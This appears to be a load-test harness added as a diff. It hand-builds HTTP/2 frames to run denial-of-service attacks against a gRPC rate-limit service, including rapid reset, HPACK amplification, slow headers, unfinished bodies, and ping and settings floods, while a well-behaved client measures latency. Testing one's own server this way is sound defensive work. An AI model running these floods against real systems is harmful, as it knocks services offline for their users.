@@ -1,0 +1,362 @@
+"""Hostile peers and a good one, frame by frame, without a library that would keep them from anything. As a program:
+
+peers.py ATTACK HOST GRPC_PORT HTTP_PORT TOKEN   attacks until its input ends; says "full" when all connections were
+opened once, and at the end, as JSON, what became of them
+"""
+
+import collections
+import contextlib
+import json
+import os
+import resource
+import select
+import selectors
+import socket
+import struct
+import sys
+import time
+from dataclasses import dataclass
+from typing import Callable
+
+# Seconds after which an attack ends by itself.
+LONGEST = 300
+SERVICE = "/tollgate.v1.LimitService/"
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
+END_STREAM, ACK, END_HEADERS = 1, 1, 4
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def integer(value, bits, first=0):
+    """An integer of HPACK (RFC 7541 §5.1)."""
+    most = (1 << bits) - 1
+    if value < most:
+        return bytes([first | value])
+    out, value = [first | most], value - most
+    while value >= 128:
+        out.append(value & 127 | 128)
+        value >>= 7
+    return bytes([*out, value])
+
+
+def field(name, value, indexed=False):
+    """A literal field; `indexed`: it enters the dynamic table."""
+    name, value = name.encode(), value.encode()
+    return bytes([0x40 if indexed else 0]) + integer(len(name), 7) + name + integer(len(value), 7) + value
+
+
+def opening(window=None):
+    """Preface and SETTINGS; `window`: what the peer lets each stream send."""
+    settings = struct.pack(">HI", 4, window) if window is not None else b""
+    return PREFACE + frame(SETTINGS, 0, 0, settings)
+
+
+def head(method="GetUsage", more=b"", token=None):
+    pairs = [(":method", "POST"), (":scheme", "http"), (":path", SERVICE + method), (":authority", "x"),
+             ("content-type", "application/grpc"), ("te", "trailers")]
+    if token:
+        pairs.append(("authorization", f"Bearer {token}"))
+    return b"".join(field(*pair) for pair in pairs) + more
+
+
+def stream_id(number):
+    return 2 * number + 1
+
+
+# GetUsage of the example's tenant.
+MESSAGE = b"\x0a\x06globex"
+BODY = struct.pack(">BI", 0, len(MESSAGE)) + MESSAGE
+
+
+class GoodClient:
+    """One connection with one call at a time."""
+
+    def __init__(self, host, port, token, timeout=30):
+        self.socket = socket.create_connection((host, port), timeout=timeout)
+        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        self.socket.sendall(opening())
+        self.buffer = b""
+        self.number = 0
+        self.head = head(token=token)
+
+    def call(self):
+        """The milliseconds until a call is answered; an error if it is refused or the connection ends."""
+        stream = stream_id(self.number)
+        self.number += 1
+        began = time.perf_counter()
+        self.socket.sendall(frame(HEADERS, END_HEADERS, stream, self.head) + frame(DATA, END_STREAM, stream, BODY))
+        has_answer = False
+        while True:
+            kind, flags, of, payload = self.next_frame()
+            if kind == SETTINGS and not flags & ACK:
+                self.socket.sendall(frame(SETTINGS, ACK, 0))
+            elif kind == PING and not flags & ACK:
+                self.socket.sendall(frame(PING, ACK, 0, payload))
+            elif kind == GOAWAY or kind == RESET:
+                raise ConnectionError("a good client was sent away")
+            elif kind == DATA and of == stream:
+                has_answer = True
+                credit = struct.pack(">I", len(payload))
+                self.socket.sendall(frame(WINDOW_UPDATE, 0, 0, credit))
+            if of == stream and flags & END_STREAM:
+                if not has_answer:
+                    raise ConnectionError("a good client was refused")
+                return (time.perf_counter() - began) * 1_000
+
+    def next_frame(self):
+        while True:
+            if len(self.buffer) >= 9:
+                length = int.from_bytes(self.buffer[:3], "big")
+                if len(self.buffer) >= 9 + length:
+                    kind, flags, stream = struct.unpack(">BBI", self.buffer[3:9])
+                    payload, self.buffer = self.buffer[9:9 + length], self.buffer[9 + length:]
+                    return kind, flags, stream, payload
+            data = self.socket.recv(65_536)
+            if not data:
+                raise ConnectionError("the connection of a good client was closed")
+            self.buffer += data
+
+    def close(self):
+        self.socket.close()
+
+
+@dataclass
+class Attack:
+    name: str
+    title: str
+    # What a connection begins with, and what follows in its nth turn; b"": nothing more, it just stays.
+    begin: Callable
+    turn: Callable = lambda number, token: b""
+    connections: int = 4
+    is_http: bool = False
+    # Whether the peer reads what it is sent.
+    reads: bool = True
+    needs_token: bool = False
+    # Seconds between two turns of a connection.
+    pause: float = 0
+    # Whether the server must end its connections.
+    must_end: bool = False
+
+
+def unfinished_bodies(number, token):
+    """A request whose body never ends, as much of it as the windows take."""
+    if number >= 8:
+        return b""
+    stream = stream_id(number)
+    body = struct.pack(">BI", 0, 60_000) + bytes(16_000)
+    return (frame(HEADERS, END_HEADERS, stream, head("CheckAndReserve", token=token)) +
+            frame(DATA, 0, stream, body) + b"".join(frame(DATA, 0, stream, bytes(16_000)) for _ in range(2)))
+
+
+def long_authorizations(number, token):
+    if number >= 200:
+        return b""
+    more = field("authorization", "Bearer " + "x" * 7_500)
+    return frame(HEADERS, END_HEADERS, stream_id(number), head("CheckAndReserve", more))
+
+
+def header_heavy(number, token):
+    """Blocks just within the bounds, of which a byte stands for a field of 2 000."""
+    if number == 0:
+        return frame(HEADERS, END_HEADERS | END_STREAM, 1, head(more=field("x-a", "v" * 2_000, indexed=True)))
+    block = head(more=bytes([0x80 | 62]) * 3)
+    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream_id(number * 40 + index), block)
+                    for index in range(40))
+
+
+def many_fields(number, token):
+    return frame(HEADERS, END_HEADERS | END_STREAM, stream_id(number), head(more=field("x-a", "1") * 400))
+
+
+def unfolding(number, token):
+    if number == 0:
+        return frame(HEADERS, END_HEADERS | END_STREAM, 1, head(more=field("x-a", "v" * 4_000, indexed=True)))
+    return frame(HEADERS, END_HEADERS | END_STREAM, stream_id(number), head(more=bytes([0x80 | 62]) * 16_000))
+
+
+def rapid_reset(number, token):
+    out = []
+    for index in range(number * 50, number * 50 + 50):
+        stream = stream_id(index)
+        out += [frame(HEADERS, END_HEADERS, stream, head()), frame(RESET, 0, stream, struct.pack(">I", 8))]
+    return b"".join(out)
+
+
+def stray_data(number, token):
+    if number == 0:
+        return frame(HEADERS, END_HEADERS, 1, head()) + frame(RESET, 0, 1, struct.pack(">I", 8))
+    return frame(DATA, 0, 1, bytes(1_000)) * 20
+
+
+def stray_headers(number, token):
+    """As above, with trailers and more of them."""
+    if number == 0:
+        return frame(HEADERS, END_HEADERS, 1, head()) + frame(RESET, 0, 1, struct.pack(">I", 8))
+    return frame(HEADERS, END_HEADERS | END_STREAM, 1, head()) * 20
+
+
+def unread_answers(number, token):
+    if number >= 250:
+        return b""
+    stream = stream_id(number)
+    return (frame(HEADERS, END_HEADERS, stream, head(token=token)) + frame(DATA, END_STREAM, stream, BODY))
+
+
+def refused_calls(number, token):
+    """Calls without a token, answered and not read."""
+    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream_id(number * 50 + index), head())
+                    for index in range(50))
+
+
+ATTACKS = [
+    Attack("idle", "1 100 connections that do nothing", lambda token: opening(), connections=1_100),
+    Attack("slow-head", "300 connections that send the preface byte by byte", lambda token: b"",
+           lambda number, token: PREFACE[number % 24:number % 24 + 1], connections=300, pause=0.3),
+    Attack("bodies", "200 connections with 8 unfinished bodies each, no token", lambda token: opening(),
+           unfinished_bodies, connections=200),
+    Attack("bodies-token", "the same with a good token", lambda token: opening(), unfinished_bodies,
+           connections=200, needs_token=True),
+    Attack("authorization", "200 connections, 200 unfinished requests each with 7.5 KB of authorization",
+           lambda token: opening(), long_authorizations, connections=200),
+    Attack("header-heavy", "header blocks just within the bounds, as fast as they go", lambda token: opening(),
+           header_heavy, must_end=True),
+    Attack("many-fields", "400 fields in a block", lambda token: opening(), many_fields, must_end=True),
+    Attack("unfolding", "16 000 fields of 4 KB in a block of 16 KB", lambda token: opening(), unfolding,
+           must_end=True),
+    Attack("rapid-reset", "requests that are reset at once", lambda token: opening(), rapid_reset,
+           must_end=True),
+    Attack("stray-data", "DATA on a stream that is reset", lambda token: opening(), stray_data,
+           must_end=True),
+    Attack("stray-headers", "HEADERS on a stream that is reset", lambda token: opening(), stray_headers,
+           must_end=True),
+    Attack("pings", "PING after PING", lambda token: opening(),
+           lambda number, token: frame(PING, 0, 0, bytes(8)) * 100, must_end=True),
+    Attack("settings", "SETTINGS after SETTINGS", lambda token: opening(),
+           lambda number, token: frame(SETTINGS, 0, 0) * 100, must_end=True),
+    Attack("unread", "250 calls on each of 100 connections with no window, answers not read",
+           lambda token: opening(window=0), unread_answers, connections=100, reads=False, needs_token=True),
+    Attack("refused", "calls without a token whose refusals are not read", lambda token: opening(), refused_calls,
+           connections=100, reads=False, must_end=True),
+    Attack("http-idle", "1 100 connections to the HTTP port that do nothing", lambda token: b"", connections=1_100,
+           is_http=True),
+    Attack("http-slow-head", "300 heads that never end", lambda token: b"GET /healthz HTTP/1.1\r\nHost: x\r\n",
+           lambda number, token: b"x-%d: y\r\n" % number if number < 90 else b"", connections=300, is_http=True, pause=0.3),
+    Attack("http-unread", "pipelined /openapi.json whose answers are not read", lambda token: b"",
+           lambda number, token: b"GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n" * 20, connections=300, is_http=True,
+           reads=False),
+    Attack("http-bodies", "300 unfinished bodies", lambda token: b"POST /v2/tenants HTTP/1.1\r\nHost: x\r\n"
+           b"Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n",
+           lambda number, token: b"x" * 16_000 if number < 60 else b"", connections=300, is_http=True),
+]
+
+
+class Connection:
+    """One connection of an attack."""
+
+    def __init__(self, attack, address):
+        self.socket = socket.socket()
+        if not attack.reads:
+            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
+        self.socket.setblocking(False)
+        self.socket.connect_ex(address)
+        self.pending = None
+        self.number = 0
+
+
+class Swarm:
+    """All connections of an attack: those that are closed are opened again."""
+
+    def __init__(self, attack, address, token):
+        self.attack, self.address, self.token = attack, address, token
+        self.selector = selectors.DefaultSelector()
+        self.opened = self.closed = self.turns = 0
+        self.open_count = 0
+        # Those that neither say nor read anything more, and those that wait for their next turn.
+        self.resting = []
+        self.waiting = collections.deque()
+
+    def run(self):
+        is_full = False
+        end = time.monotonic() + LONGEST
+        while time.monotonic() < end and not select.select([sys.stdin], [], [], 0)[0]:
+            if not is_full and self.opened >= self.attack.connections:
+                is_full = True
+                print("full", flush=True)
+            # A few at a time, so that each gets its turn.
+            for _ in range(min(50, self.attack.connections - self.open_count)):
+                self.open()
+            while self.waiting and self.waiting[0][0] <= time.monotonic():
+                connection = self.waiting.popleft()[1]
+                with contextlib.suppress(KeyError, ValueError):
+                    self.selector.modify(
+                        connection.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, connection)
+            ready = self.selector.select(0.02)
+            for key, events in ready:
+                self.work(key.data, events)
+        alive = self.open_count
+        for key in list(self.selector.get_map().values()):
+            key.fileobj.close()
+        return {"opened": self.opened, "closed": self.closed, "alive": alive, "turns": self.turns}
+
+    def open(self):
+        connection = Connection(self.attack, self.address)
+        self.selector.register(connection.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, connection)
+        self.opened += 1
+        self.open_count += 1
+
+    def work(self, connection, events):
+        try:
+            if events & selectors.EVENT_READ and self.attack.reads:
+                if not connection.socket.recv(65_536):
+                    raise ConnectionError
+            if events & selectors.EVENT_WRITE:
+                self.write(connection)
+        except BlockingIOError:
+            pass
+        except OSError:
+            self.selector.unregister(connection.socket)
+            connection.socket.close()
+            self.closed += 1
+            self.open_count -= 1
+
+    def write(self, connection):
+        if connection.pending is None:
+            connection.pending = self.attack.begin(self.token)
+        elif not connection.pending:
+            connection.pending = self.attack.turn(connection.number, self.token)
+            connection.number += 1
+            self.turns += 1
+            if not connection.pending:
+                return self.rest(connection)
+            if self.attack.pause:
+                self.selector.modify(connection.socket, selectors.EVENT_READ, connection)
+                self.waiting.append((time.monotonic() + self.attack.pause, connection))
+        if connection.pending:
+            connection.pending = connection.pending[connection.socket.send(connection.pending):]
+
+    def rest(self, connection):
+        """It has said all that it has to say, and stays. One that does not read is not even looked at."""
+        if self.attack.reads:
+            self.selector.modify(connection.socket, selectors.EVENT_READ, connection)
+        else:
+            self.selector.unregister(connection.socket)
+            self.resting.append(connection)
+
+
+def main():
+    name, host, grpc, http, token = sys.argv[1:6]
+    attack = next(attack for attack in ATTACKS if attack.name == name)
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, 4_096)), hard))
+    os.nice(5)  # The good client and the server have the machine first: an attacker is elsewhere.
+    address = (host, int(http if attack.is_http else grpc))
+    swarm = Swarm(attack, address, token if attack.needs_token else None)
+    print(json.dumps(swarm.run()))
+
+
+if __name__ == "__main__":
+    with contextlib.suppress(KeyboardInterrupt):
+        main()
